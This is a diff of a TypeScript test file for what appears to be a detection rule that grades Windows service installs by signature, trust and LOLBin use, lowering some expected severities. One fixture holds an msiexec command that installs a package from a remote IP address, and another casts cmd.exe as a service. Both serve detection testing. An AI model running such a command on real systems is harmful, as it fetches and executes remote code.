@@ -99,11 +99,11 @@ const severities: readonly Scenario[] = [
   ...outcomes({ ...row({ IsSigned: true, IsTrusted: true }), ...story }, judged('Low', 'signed and trusted'), {
     'a trusted file, of which the row comes first': {},
   }),
-  ...outcomes(story, judged('High', 'unsigned', 2), {
+  ...outcomes(story, judged('Medium', 'unsigned', 2), {
     'a row that says unsigned clears nothing': row({ IsSigned: false, IsTrusted: false }),
     'nor one that says nothing': row({ IsSigned: null }),
   }),
-  ...outcomes(story, judged('High', 'untrusted', 2), { 'a signature that is not trusted': row({ IsSigned: true, IsTrusted: false }) }),
+  ...outcomes(story, judged('Medium', 'untrusted', 2), { 'a signature that is not trusted': row({ IsSigned: true, IsTrusted: false }) }),
   ...outcomes(story, judged('Medium', 'accepted a remote connection'), {
     'a row of another file': row({ IsSigned: true, IsTrusted: true }, 'a0e1f2d3c4b5968778695a4b3c2d1e0f10213243'),
     'a row without hash beside a service without': {
@@ -119,11 +119,14 @@ const severities: readonly Scenario[] = [
   ...outcomes(story, judged('Medium', 'after boot', 2), {
     'a young boot does not outweigh an unsigned file': { ...young(seconds(-20)), ...row({ IsSigned: false }) },
   }),
-  ...outcomes(story, judged('High', 'LOLBin'), {
+  // That its signer is known is worth a revision; it is no more severe, and no less.
+  ...outcomes(story, judged('High', 'LOLBin', 2), {
     'cmd.exe as a service, whatever its signature': {
       certificate: certificate(sha1, { IsSigned: true, IsTrusted: true }),
       child: { FileName: 'cmd.exe', FolderPath: 'C:\\Windows\\System32\\cmd.exe' },
     },
+  }),
+  ...outcomes(story, judged('High', 'LOLBin'), {
     'msiexec.exe with a package': { child: { ...installer, ProcessCommandLine: 'msiexec.exe /V /i http://10.20.3.117/a.msi' } },
   }),
   ...outcomes(story, judged('Low', 'Windows Installer service'), { 'the Windows Installer service': { child: installer } }),
